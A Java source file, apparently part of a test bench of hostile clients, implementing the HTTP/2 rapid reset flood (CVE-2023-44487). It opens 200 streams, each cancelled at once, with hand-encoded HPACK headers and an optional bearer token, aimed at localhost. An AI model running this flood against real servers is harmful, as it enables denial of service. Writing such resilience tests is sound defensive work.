package dev.gantry.bench.hostile.client;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Locale;

/** HTTP/2 rapid reset (CVE-2023-44487): requests that are cancelled with their last byte. */
record StreamReset(Caller caller) implements Hostile {
    private static final int STREAMS = 200;
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int END_OF_BOTH = 5;

    /** From HPACK's static table: GET, https, and two names whose values follow. */
    private static final byte GET = (byte) 0x82;

    private static final byte HTTPS = (byte) 0x87;
    private static final byte PATH_IS = 0x04;
    private static final byte AUTHORITY_IS = 0x01;

    @Override
    public String name() {
        return "stream-reset-" + caller.name().toLowerCase(Locale.ROOT);
    }

    @Override
    public int pace() {
        return 10;
    }

    @Override
    public void attempt(Ground ground) throws IOException {
        try (Wire wire = ground.tls("h2")) {
            wire.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
            wire.send(frame(SETTINGS, 0, 0, new byte[0]));
            byte[] headers = headers(ground);
            var flood = new ByteArrayOutputStream();
            for (int i = 0; i < STREAMS; i++) {
                flood.writeBytes(frame(HEADERS, END_OF_BOTH, 2 * i + 1, headers));
                flood.writeBytes(frame(RESET, 0, 2 * i + 1, new byte[] {0, 0, 0, 8}));
                flood.writeBytes(frame(PING, 0, 0, new byte[8]));
            }
            wire.send(flood.toByteArray());
            ground.note("flooded");
        }
    }

    private static byte[] headers(Ground ground) {
        var block = new ByteArrayOutputStream();
        block.write(GET);
        block.write(HTTPS);
        literal(block, PATH_IS, ground.configMaps());
        literal(block, AUTHORITY_IS, "localhost");
        if (!ground.token().isEmpty()) {
            block.write(0);
            text(block, "authorization");
            text(block, "Bearer " + ground.token());
        }
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, byte name, String value) {
        block.write(name);
        text(block, value);
    }

    /** A length that has to fit into seven bits, or goes on in the next bytes; no Huffman code. */
    private static void text(ByteArrayOutputStream block, String value) {
        int rest = value.length() - 127;
        if (rest < 0) {
            block.write(value.length());
        } else {
            block.write(127);
            for (; rest >= 128; rest /= 128) {
                block.write(rest % 128 + 128);
            }
            block.write(rest);
        }
        block.writeBytes(value.getBytes(US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
